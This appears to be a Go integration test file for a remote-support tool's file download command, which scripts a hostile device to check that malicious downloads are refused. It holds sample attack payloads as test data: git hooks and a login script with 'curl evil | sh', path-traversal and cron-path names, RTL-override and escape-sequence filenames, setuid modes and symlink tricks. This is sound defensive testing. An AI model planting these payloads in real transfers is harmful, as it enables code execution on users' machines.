package integration

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/tether-support/tether/internal/protocol"
	"github.com/tether-support/tether/internal/sanitize"
)

// dlScript is what the hostile device answers to download id.
type dlScript func(ctx context.Context, hs *hostileSession, id uint32)

// dlLayout is one case's local file system: a git checkout (the technician
// runs tech cp inside it) and a folder outside it with a file to protect.
type dlLayout struct {
	base, repo, outside, victim string
}

// dlCase is one download from the hostile device.
type dlCase struct {
	name   string
	src    string   // device path requested; unique per case, it selects the script
	flags  []string // extra tech cp flags
	dst    string   // relative to the checkout; default "."
	setup  func(t *testing.T, l dlLayout)
	script dlScript
	// want is a substring of the refusal; empty means the download must
	// succeed, and check then inspects the result.
	want  string
	check func(t *testing.T, l dlLayout, before map[string]string)
}

var pngData = []byte("\x89PNG\r\n\x1a\nnot really an image")

// file is a file header with its size.
func file(id uint32, path string, data []byte, mode uint32) protocol.FileHeader {
	return protocol.FileHeader{ID: id, Path: path, Size: int64(len(data)), Mode: mode}
}

// sendTree sends entries as a complete download: the first header carries
// the given announcement; files are sent whole with their true SHA-256.
func sendTree(ctx context.Context, hs *hostileSession, id uint32, entries, total int64, tree ...any) {
	for i, x := range tree {
		var h protocol.FileHeader
		var data []byte
		switch v := x.(type) {
		case string: // a folder
			h = protocol.FileHeader{ID: id, Path: v, Dir: true, Mode: 0o755}
		case fileEnt:
			h, data = file(id, v.path, v.data, v.mode), v.data
		}
		if i == 0 {
			h.Entries, h.Total = entries, total
		}
		if hs.Header(ctx, h) != nil {
			return
		}
		if !h.Dir && (hs.Data(ctx, id, data) != nil || hs.Done(ctx, id, int64(len(data)), sha256Hex(data)) != nil) {
			return
		}
	}
	hs.OK(ctx, id)
}

// fileEnt is a file entry for sendTree.
type fileEnt struct {
	path string
	data []byte
	mode uint32
}

// hookTree is the tree of the original attack: a git hook, a login
// script and an autostart entry.
func hookTree(prefix string) []any {
	hook := []byte("#!/bin/sh\ntouch /tmp/pwned\n")
	return []any{prefix + ".git", prefix + ".git/hooks", fileEnt{prefix + ".git/hooks/post-checkout", hook, 0o755},
		fileEnt{prefix + ".bash_login", hook, 0o644}, prefix + ".config", prefix + ".config/autostart",
		fileEnt{prefix + ".config/autostart/x.desktop", hook, 0o644}}
}

// many returns n file entries under dir.
func many(dir string, n int) []any {
	out := make([]any, n)
	for i := range out {
		out[i] = fileEnt{fmt.Sprintf("%s/f%04d", dir, i), []byte("x"), 0o644}
	}
	return out
}

func dlCases() []dlCase {
	hookTreeAll := hookTree("")
	return []dlCase{
		// A single-file request answered with a tree.
		{name: "tree announced for one file", src: "t1/scan.png", want: "announced 7 entries for one file",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 7, 3*28, hookTreeAll...)
			}},
		{name: "folder for one file", src: "t2/scan.png", want: "answered a request for one file with a folder",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 1, 0, "scan.png")
			}},
		{name: "tree without announcement", src: "t3/scan.png", want: "did not announce the size of its download",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 0, 0, hookTreeAll...)
			}},
		{name: "git hook as the one file", src: "t4/scan.png", want: `sent ".git/hooks/post-checkout" where "scan.png" was asked for`,
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 1, 28, fileEnt{".git/hooks/post-checkout", []byte("#!/bin/sh\ntouch /tmp/pwned\n"), 0o755})
			}},
		{name: "git hook after the one file", src: "t5/scan.png", want: "sent more than the 1 entries it announced",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 1, int64(len(pngData)), append([]any{fileEnt{"scan.png", pngData, 0o644}}, hookTreeAll...)...)
			}},
		{name: "git hook through dot-dot", src: "t6/scan.png", want: "unsafe name",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 1, 3, fileEnt{"scan.png/../.git/hooks/post-checkout", []byte("x\n\n"), 0o755})
			}},
		{name: "git hook in a recursive download", src: "t7/proj", flags: []string{"-r"}, want: "unsafe name",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 3, "proj", fileEnt{"proj/../.git/hooks/post-checkout", []byte("x\n\n"), 0o755})
			}},
		{name: "git folder as the recursive top", src: "t8/proj", flags: []string{"-r"}, want: `sent ".git" where "proj" was asked for`,
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 7, 3*28, hookTreeAll...)
			}},

		// Another name than asked.
		{name: "other name", src: "n1/scan.png", want: `sent "other.png" where "scan.png" was asked for`,
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "other.png", pngData, 0o644)
			}},
		{name: "login script name", src: "n2/scan.png", want: `sent ".bash_login" where "scan.png" was asked for`,
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, ".bash_login", []byte("curl evil | sh\n"), 0o644)
			}},
		{name: "other case", src: "n3/scan.png", want: `sent "SCAN.PNG" where "scan.png" was asked for`,
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "SCAN.PNG", pngData, 0o644)
			}},
		{name: "big file under another name", src: "n4/scan.png", flags: []string{"--max-size", "1GiB"},
			want: "over the limit of 1.0 GiB (raise it with --max-size)",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Announce(ctx, protocol.FileHeader{ID: id, Path: "update.exe", Size: 300 << 30}, 1, 300<<30)
				hs.Data(ctx, id, make([]byte, 1<<20))
			}},

		// Names that leave the destination or are not names.
		{name: "dot-dot name", src: "p1/scan.png", want: "unsafe name",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "../../.bashrc", pngData, 0o644)
			}},
		{name: "absolute name", src: "p2/scan.png", want: "unsafe name",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "/etc/cron.d/evil", pngData, 0o644)
			}},
		{name: "absolute name in a tree", src: "p3/logs", flags: []string{"-r"}, want: "unsafe name",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"/tmp/logs/x", []byte("x"), 0o644})
			}},
		{name: "backslash name", src: "p4/logs", flags: []string{"-r"}, want: "backslash",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{`logs/..\..\x`, []byte("x"), 0o644})
			}},
		{name: "NUL in name", src: "p5/logs", flags: []string{"-r"}, want: "NUL",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"logs/a\x00b", []byte("x"), 0o644})
			}},
		{name: "reserved device name", src: "p6/logs", flags: []string{"-r"}, want: "reserved device name",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"logs/CON.txt", []byte("x"), 0o644})
			}},
		{name: "file outside any folder sent", src: "p7/logs", flags: []string{"-r"}, want: "outside any folder it sent before",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"logs/sub/x", []byte("x"), 0o644})
			}},
		{name: "case-folding collision", src: "p8/logs", flags: []string{"-r"}, want: "which name the same file",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 3, 2, "logs", fileEnt{"logs/Report.txt", []byte("a"), 0o644}, fileEnt{"logs/REPORT.TXT.", []byte("b"), 0o644})
			}},
		{name: "case-folded git folder", src: "p9/logs", flags: []string{"-r"}, want: "which name the same file",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 3, 0, "logs", "logs/.git", "logs/.GIT")
			}},

		// Symlink entries: the protocol has none; a mode with the file type
		// bits of a symlink is refused like any mode beyond rwxrwxrwx.
		{name: "symlink mode S_IFLNK", src: "s1/scan.png", want: "only permission bits (0777) are accepted",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "scan.png", []byte("/etc/passwd"), 0o120777)
			}},
		{name: "symlink mode fs.ModeSymlink", src: "s2/logs", flags: []string{"-r"}, want: "only permission bits (0777) are accepted",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Announce(ctx, protocol.FileHeader{ID: id, Path: "logs", Dir: true, Mode: 0o755}, 2, 0)
				hs.Header(ctx, protocol.FileHeader{ID: id, Path: "logs/link", Mode: uint32(fs.ModeSymlink | 0o777)})
				hs.OK(ctx, id)
			}},

		// More bytes than announced.
		{name: "more data than the header", src: "b1/scan.png", want: `sent more data for "scan.png" than the 10 bytes it announced`,
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Announce(ctx, protocol.FileHeader{ID: id, Path: "scan.png", Size: 10}, 1, 10)
				hs.Data(ctx, id, make([]byte, 4<<20))
			}},
		{name: "file larger than the announced total", src: "b2/scan.png", want: "which goes past the 5 bytes it announced in all",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Announce(ctx, protocol.FileHeader{ID: id, Path: "scan.png", Size: 10}, 1, 5)
				hs.Data(ctx, id, make([]byte, 10))
			}},
		{name: "tree larger than the announced total", src: "b3/logs", flags: []string{"-r"}, want: "which goes past the 10 bytes it announced in all",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 3, 10, "logs", fileEnt{"logs/a", make([]byte, 8), 0o644}, fileEnt{"logs/b", make([]byte, 8), 0o644})
			}},
		{name: "fewer bytes than announced", src: "b4/scan.png", want: "size or SHA-256 that does not match",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Announce(ctx, protocol.FileHeader{ID: id, Path: "scan.png", Size: 100}, 1, 100)
				hs.Data(ctx, id, make([]byte, 50))
				hs.Done(ctx, id, 50, sha256Hex(make([]byte, 50)))
				hs.OK(ctx, id)
			}},
		{name: "wrong SHA-256", src: "b5/scan.png", want: "size or SHA-256 that does not match",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Announce(ctx, file(id, "scan.png", pngData, 0o644), 1, int64(len(pngData)))
				hs.Data(ctx, id, pngData)
				hs.Done(ctx, id, int64(len(pngData)), sha256Hex([]byte("something else")))
				hs.OK(ctx, id)
			}},

		// More files than announced.
		{name: "more entries than announced", src: "c1/logs", flags: []string{"-r"}, want: "sent more than the 2 entries it announced",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 3, append([]any{"logs"}, many("logs", 3)...)...)
			}},
		{name: "fewer entries than announced", src: "c2/logs", flags: []string{"-r"}, want: "sent 2 entries and 1 bytes, having announced 5 and 1",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 5, 1, append([]any{"logs"}, many("logs", 1)...)...)
			}},
		{name: "success without anything", src: "c3/scan.png", want: "reported success without sending anything",
			script: func(ctx context.Context, hs *hostileSession, id uint32) { hs.OK(ctx, id) }},
		{name: "data before any header", src: "c4/scan.png", want: "sent file data outside any file",
			script: func(ctx context.Context, hs *hostileSession, id uint32) { hs.Data(ctx, id, pngData) }},

		// 3,000 files for one.
		{name: "3000 files announced for one", src: "m1/scan.png", want: "announced 3000 entries for one file",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 3000, 3000, many("scan.png", 3000)...)
			}},
		{name: "3000 files after announcing one", src: "m2/scan.png", want: "sent more than the 1 entries it announced",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 1, int64(len(pngData)), append([]any{fileEnt{"scan.png", pngData, 0o644}}, many("scan.png", 3000)...)...)
			}},
		{name: "3000 files over --max-files", src: "m3/logs", flags: []string{"-r", "--max-files", "1000"},
			want: "the download has 3001 entries, over the limit of 1000 (raise it with --max-files)",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 3001, 3000, append([]any{"logs"}, many("logs", 3000)...)...)
			}},
		{name: "announced total over the default limit", src: "m4/logs", flags: []string{"-r"},
			want: "over the limit of 10.0 GiB (raise it with --max-size)",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Announce(ctx, protocol.FileHeader{ID: id, Path: "logs", Dir: true}, 2, 11<<30)
			}},

		// Invisible and control characters in names and error texts.
		{name: "U+202E in the name", src: "u1/scan.png", want: "invisible character U+202E",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "scan\u202egnp.exe", pngData, 0o644)
			}},
		{name: "U+202E in a tree", src: "u2/logs", flags: []string{"-r"}, want: "invisible character U+202E",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"logs/report\u202efdp.exe", []byte("x"), 0o755})
			}},
		{name: "zero-width in a tree", src: "u3/logs", flags: []string{"-r"}, want: "invisible character U+200B",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"logs/.git\u200b", []byte("x"), 0o644})
			}},
		{name: "ESC sequence in the name", src: "u4/scan.png", want: "control character U+001B",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "scan\x1b]52;c;ZWNobyBwd25lZA==\x07.png", pngData, 0o644)
			}},
		{name: "ESC sequences in the error text", src: "u5/scan.png", want: "device: disk error",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Fail(ctx, id, "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;ZWNobyBwd25lZA==\x07disk error\u202e")
			}},
		{name: "newline in the name", src: "u6/logs", flags: []string{"-r"}, want: "control character U+000A",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"logs/x\ntech: all good", []byte("x"), 0o644})
			}},

		// Mode bits.
		{name: "setuid file", src: "x1/scan.png", want: "setuid",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "scan.png", pngData, 0o4755)
			}},
		{name: "setgid file with -p", src: "x2/scan.png", flags: []string{"-p"}, want: "setuid",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "scan.png", pngData, 0o2755)
			}},
		{name: "sticky folder", src: "x3/logs", flags: []string{"-r", "-p"}, want: "sticky",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.Announce(ctx, protocol.FileHeader{ID: id, Path: "logs", Dir: true, Mode: 0o1777}, 1, 0)
				hs.OK(ctx, id)
			}},
		{name: "exec bit without -p", src: "x4/tool.sh", dst: "tool.sh",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "tool.sh", []byte("#!/bin/sh\necho hi\n"), 0o755)
			},
			check: func(t *testing.T, l dlLayout, before map[string]string) {
				onlyNew(t, l, before, "repo/tool.sh")
				if m := mode(t, filepath.Join(l.repo, "tool.sh")); m&0o111 != 0 || m&^0o666 != 0 {
					t.Errorf("mode %#o without -p, want 0666 less the umask", m)
				}
			}},
		{name: "exec bit with -p", src: "x5/tool.sh", flags: []string{"-p"},
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "tool.sh", []byte("#!/bin/sh\necho hi\n"), 0o751)
			},
			check: func(t *testing.T, l dlLayout, before map[string]string) {
				onlyNew(t, l, before, "repo/tool.sh")
				if m := mode(t, filepath.Join(l.repo, "tool.sh")); m != 0o751 {
					t.Errorf("mode %#o with -p, want 0751", m)
				}
			}},
		{name: "exec bits in a tree without -p", src: "x6/bin", flags: []string{"-r"}, dst: "got",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 3, 2, "bin", fileEnt{"bin/a", []byte("a"), 0o755}, fileEnt{"bin/b", []byte("b"), 0o700})
			},
			check: func(t *testing.T, l dlLayout, before map[string]string) {
				onlyNew(t, l, before, "repo/got", "repo/got/a", "repo/got/b")
				for _, f := range []string{"a", "b"} {
					if m := mode(t, filepath.Join(l.repo, "got", f)); m&0o111 != 0 {
						t.Errorf("%s: mode %#o without -p", f, m)
					}
				}
			}},

		// Symlinks planted earlier in the destination.
		{name: "recursive onto a symlink to outside", src: "l1/logs", flags: []string{"-r"},
			setup: func(t *testing.T, l dlLayout) { symlink(t, l.outside, filepath.Join(l.repo, "logs")) },
			want:  "already exists (tech cp -r never merges into or replaces anything)",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"logs/victim", []byte("x"), 0o644})
			}},
		{name: "recursive onto a symlink in a named folder", src: "l2/logs", flags: []string{"-r"}, dst: "dl",
			setup: func(t *testing.T, l dlLayout) {
				os.Mkdir(filepath.Join(l.repo, "dl"), 0o755)
				symlink(t, l.outside, filepath.Join(l.repo, "dl", "logs"))
			},
			want: "already exists (tech cp -r never merges into or replaces anything)",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				sendTree(ctx, hs, id, 2, 1, "logs", fileEnt{"logs/victim", []byte("x"), 0o644})
			}},
		{name: "file onto a symlink to outside", src: "l3/victim",
			setup: func(t *testing.T, l dlLayout) { symlink(t, l.victim, filepath.Join(l.repo, "victim")) },
			want:  "already exists here (use --force to replace it)",
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "victim", []byte("overwritten"), 0o644)
			}},
		{name: "file onto a symlink to outside with --force", src: "l4/victim", flags: []string{"--force"},
			setup: func(t *testing.T, l dlLayout) { symlink(t, l.victim, filepath.Join(l.repo, "victim")) },
			script: func(ctx context.Context, hs *hostileSession, id uint32) {
				hs.SendOne(ctx, id, "victim", []byte("replaced"), 0o644)
			},
			check: func(t *testing.T, l dlLayout, before map[string]string) {
				if got := mustRead(t, l.victim); got != "original" {
					t.Errorf("the symlink was followed: outside file now %q", got)
				}
				fi, err := os.Lstat(filepath.Join(l.repo, "victim"))
				if err != nil || !fi.Mode().IsRegular() || mustRead(t, filepath.Join(l.repo, "victim")) != "replaced" {
					t.Errorf("the symlink was not replaced by the file: %v %v", fi, err)
				}
			}},
	}
}

// TestDownloadFromHostileDevice runs tech cp inside a git checkout
// against a device that answers with what the real agent never would:
// every such download is refused with one clear, sanitized line, exits
// non-zero, and leaves the checkout and everything outside it exactly as
// they were (no partial or staging files either).
func TestDownloadFromHostileDevice(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	cases := dlCases()
	scripts := map[string]dlScript{}
	for _, c := range cases {
		if _, dup := scripts[c.src]; dup {
			t.Fatalf("two cases request %s", c.src)
		}
		scripts[c.src] = c.script
	}
	hd := e.hostileDevice(t, "evil", func(ctx context.Context, hs *hostileSession) {
		o, err := hs.FileOpen(ctx)
		if err != nil {
			return
		}
		s, ok := scripts[o.Path]
		if !ok || o.Op != protocol.FileGet {
			hs.Fail(ctx, o.ID, "no case for "+o.Path)
			return
		}
		s(ctx, hs, o.ID)
		for { // stay until the technician ends the session
			if _, _, err := hs.Recv(ctx); err != nil {
				return
			}
		}
	})
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			l := newLayout(t)
			if c.setup != nil {
				c.setup(t, l)
			}
			before := snapshot(t, l.base)
			dst := c.dst
			if dst == "" {
				dst = "."
			}
			args := append([]string{"--config", e.tech, "cp"}, c.flags...)
			r := run(t, l.repo, "", bin.tech, append(args, hd.name+":"+c.src, dst)...)
			if c.want == "" {
				if r.code != 0 {
					t.Fatalf("download failed: code %d stderr %q", r.code, r.stderr)
				}
				c.check(t, l, before)
				return
			}
			if r.code == 0 || !strings.Contains(r.stderr, c.want) {
				t.Errorf("code %d stderr %q; want a refusal mentioning %q", r.code, r.stderr, c.want)
			}
			if ls := lines(r.stderr); len(ls) > 0 {
				t.Logf("exit %d: %s", r.code, ls[len(ls)-1])
			}
			if c.setup == nil && !strings.Contains(r.stderr, "nothing was written") {
				t.Errorf("stderr %q does not say nothing was written", r.stderr)
			}
			assertInert(t, r.stderr)
			if after := snapshot(t, l.base); !sameSnapshot(before, after) {
				t.Errorf("the file system changed:\nbefore %v\nafter  %v", before, after)
			}
		})
	}
}

// newLayout makes a git checkout with a hook folder and a folder outside
// it holding a victim file.
func newLayout(t *testing.T) dlLayout {
	t.Helper()
	base := t.TempDir()
	l := dlLayout{base: base, repo: filepath.Join(base, "repo"), outside: filepath.Join(base, "outside")}
	l.victim = filepath.Join(l.outside, "victim")
	for _, d := range []string{filepath.Join(l.repo, ".git", "hooks"), l.outside} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for p, s := range map[string]string{filepath.Join(l.repo, ".git", "HEAD"): "ref: refs/heads/main\n",
		filepath.Join(l.repo, ".git", "hooks", "pre-commit.sample"): "#!/bin/sh\n", l.victim: "original",
		filepath.Join(l.repo, "README"): "hello\n"} {
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return l
}

// snapshot maps every path below root to its type, mode and content hash
// (or symlink target). Symlinks are not followed.
func snapshot(t *testing.T, root string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, p)
		fi, err := os.Lstat(p)
		if err != nil {
			return err
		}
		switch {
		case fi.Mode()&fs.ModeSymlink != 0:
			target, _ := os.Readlink(p)
			out[rel] = "symlink " + target
		case fi.IsDir():
			out[rel] = fmt.Sprintf("dir %v", fi.Mode())
		default:
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			s := sha256.Sum256(b)
			out[rel] = fmt.Sprintf("file %v %s", fi.Mode(), hex.EncodeToString(s[:8]))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func sameSnapshot(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return true
}

// onlyNew checks the download added exactly the paths named (relative to
// the layout's base) and changed nothing else.
func onlyNew(t *testing.T, l dlLayout, before map[string]string, added ...string) {
	t.Helper()
	after := snapshot(t, l.base)
	for _, a := range added {
		if _, ok := after[filepath.FromSlash(a)]; !ok {
			t.Errorf("%s was not written", a)
		}
		delete(after, filepath.FromSlash(a))
	}
	if !sameSnapshot(before, after) {
		t.Errorf("unexpected changes:\nbefore %v\nafter  %v", before, after)
	}
}

// assertInert checks output holds no escape sequence, control character
// (but newlines) or invisible character from the device.
func assertInert(t *testing.T, s string) {
	t.Helper()
	if i := strings.IndexFunc(s, func(r rune) bool {
		return (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r < 0xa0) || sanitize.Invisible(r)
	}); i >= 0 {
		t.Errorf("output carries a raw control or invisible character at %d: %q", i, s)
	}
}

func mode(t *testing.T, p string) fs.FileMode {
	t.Helper()
	fi, err := os.Lstat(p)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Mode() & (fs.ModePerm | fs.ModeSetuid | fs.ModeSetgid | fs.ModeSticky)
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// TestDownloadFromRealAgent is the positive control: the real agent's
// downloads (one file, -p, -r into a new or an existing folder) still
// work, and the agent itself refuses to send a name tech would refuse.
func TestDownloadFromRealAgent(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	d := e.enroll("dev")
	e.runAgent(d, "exit 0")
	h := d.userHome
	for _, dir := range []string{"Desktop", "bin", "logs/sub/deeper", "logs/empty", "weird"} {
		os.MkdirAll(filepath.Join(h, dir), 0o755)
	}
	writeRandom(t, filepath.Join(h, "Desktop", "scan.png"), 200000, 0o644)
	writeRandom(t, filepath.Join(h, "bin", "tool.sh"), 100, 0o755)
	treeFiles := []string{"logs/a.log", "logs/sub/b.log", "logs/sub/deeper/c.log"}
	for i, f := range treeFiles {
		writeRandom(t, filepath.Join(h, f), int64(1000*i+70000), 0o640)
	}
	writeRandom(t, filepath.Join(h, "weird", "report\u202efdp.exe"), 10, 0o644)
	cwd := t.TempDir()
	cp := func(args ...string) result {
		return run(t, cwd, "", bin.tech, append([]string{"--config", e.tech, "cp"}, args...)...)
	}

	if r := cp(d.name+":Desktop/scan.png", "."); r.code != 0 {
		t.Fatalf("single file into .: %s", r.stderr)
	}
	sameFile(t, filepath.Join(h, "Desktop", "scan.png"), filepath.Join(cwd, "scan.png"))
	if r := cp(d.name+":~/Desktop/scan.png", "renamed.png"); r.code != 0 {
		t.Fatalf("single file to a name: %s", r.stderr)
	}
	sameFile(t, filepath.Join(h, "Desktop", "scan.png"), filepath.Join(cwd, "renamed.png"))
	if r := cp(d.name+":Desktop/scan.png", "."); r.code == 0 || !strings.Contains(r.stderr, "already exists here (use --force") {
		t.Fatalf("silent overwrite: code %d stderr %q", r.code, r.stderr)
	}
	if r := cp("--force", d.name+":Desktop/scan.png", "."); r.code != 0 {
		t.Fatalf("--force: %s", r.stderr)
	}

	if r := cp(d.name+":bin/tool.sh", "."); r.code != 0 || mode(t, filepath.Join(cwd, "tool.sh"))&0o111 != 0 {
		t.Fatalf("without -p: code %d stderr %q mode %v", r.code, r.stderr, mode(t, filepath.Join(cwd, "tool.sh")))
	}
	if r := cp("-p", d.name+":bin/tool.sh", "tool-p.sh"); r.code != 0 || mode(t, filepath.Join(cwd, "tool-p.sh")) != 0o755 {
		t.Fatalf("with -p: code %d stderr %q", r.code, r.stderr)
	}

	if r := cp("-r", d.name+":logs", "pc-logs"); r.code != 0 {
		t.Fatalf("-r into a new folder: %s", r.stderr)
	}
	if r := cp("-r", d.name+":logs", "."); r.code != 0 {
		t.Fatalf("-r into an existing folder: %s", r.stderr)
	}
	for _, f := range treeFiles {
		rest := strings.TrimPrefix(f, "logs/")
		sameFile(t, filepath.Join(h, f), filepath.Join(cwd, "pc-logs", rest))
		sameFile(t, filepath.Join(h, f), filepath.Join(cwd, "logs", rest))
	}
	if fi, err := os.Stat(filepath.Join(cwd, "pc-logs", "empty")); err != nil || !fi.IsDir() {
		t.Errorf("the empty folder did not arrive: %v", err)
	}
	if r := cp("-r", d.name+":logs", "."); r.code == 0 || !strings.Contains(r.stderr, "never merges") {
		t.Fatalf("-r over an existing folder: code %d stderr %q", r.code, r.stderr)
	}

	before := snapshot(t, cwd)
	r := cp("-r", d.name+":weird", "w")
	if r.code == 0 || !strings.Contains(r.stderr, "invisible character U+202E") {
		t.Fatalf("a name with U+202E: code %d stderr %q", r.code, r.stderr)
	}
	assertInert(t, r.stderr)
	if !sameSnapshot(before, snapshot(t, cwd)) {
		t.Fatal("a refused download wrote something")
	}
	ents, _ := os.ReadDir(cwd)
	for _, en := range ents {
		if strings.HasPrefix(en.Name(), ".tether-") {
			t.Errorf("staging left behind: %s", en.Name())
		}
	}
}

// TestInterruptedDownloadLeavesNothing stops tech (Ctrl-C, SIGTERM) while
// a device is in the middle of a download and then stalls: tech exits
// non-zero and the staging file or folder is gone.
func TestInterruptedDownloadLeavesNothing(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	stall := func(ctx context.Context, hs *hostileSession) {
		for {
			if _, _, err := hs.Recv(ctx); err != nil {
				return
			}
		}
	}
	hd := e.hostileDevice(t, "staller", func(ctx context.Context, hs *hostileSession) {
		o, err := hs.FileOpen(ctx)
		if err != nil {
			return
		}
		if o.Recursive {
			hs.Announce(ctx, protocol.FileHeader{ID: o.ID, Path: "logs", Dir: true, Mode: 0o755}, 3, 2<<20)
			hs.SendFile(ctx, o.ID, "logs/a", make([]byte, 1<<20), 0o644)
			hs.Header(ctx, protocol.FileHeader{ID: o.ID, Path: "logs/b", Size: 1 << 20, Mode: 0o644})
		} else {
			hs.Announce(ctx, protocol.FileHeader{ID: o.ID, Path: "scan.png", Size: 1 << 20, Mode: 0o644}, 1, 1<<20)
		}
		hs.Data(ctx, o.ID, make([]byte, 1000))
		stall(ctx, hs)
	})
	tests := []struct {
		name string
		args []string
		sig  os.Signal
	}{
		{"single file, Ctrl-C", []string{"Desktop/scan.png"}, os.Interrupt},
		{"single file, SIGTERM", []string{"Desktop/scan.png"}, syscall.SIGTERM},
		{"tree, Ctrl-C", []string{"-r", "logs"}, os.Interrupt},
		{"tree, SIGTERM", []string{"-r", "logs"}, syscall.SIGTERM},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			l := newLayout(t)
			before := snapshot(t, l.base)
			args := []string{"--config", e.tech, "cp"}
			args = append(args, tc.args[:len(tc.args)-1]...)
			p := start(t, l.repo, nil, bin.tech, append(args, hd.name+":"+tc.args[len(tc.args)-1], ".")...)
			eventually(t, "the staging name to appear", 20*time.Second, func() bool {
				ents, _ := os.ReadDir(l.repo)
				for _, en := range ents {
					if strings.HasPrefix(en.Name(), ".tether-") {
						return true
					}
				}
				return false
			})
			time.Sleep(100 * time.Millisecond) // let the first data arrive; the result does not depend on it
			p.cmd.Process.Signal(tc.sig)
			select {
			case <-p.done:
			case <-time.After(10 * time.Second):
				t.Fatal("tech did not stop")
			}
			if p.cmd.ProcessState.ExitCode() == 0 {
				t.Errorf("interrupted download exited 0: %s", p.Output())
			}
			if after := snapshot(t, l.base); !sameSnapshot(before, after) {
				t.Errorf("an interrupted download left files:\nbefore %v\nafter  %v", before, after)
			}
		})
	}
}
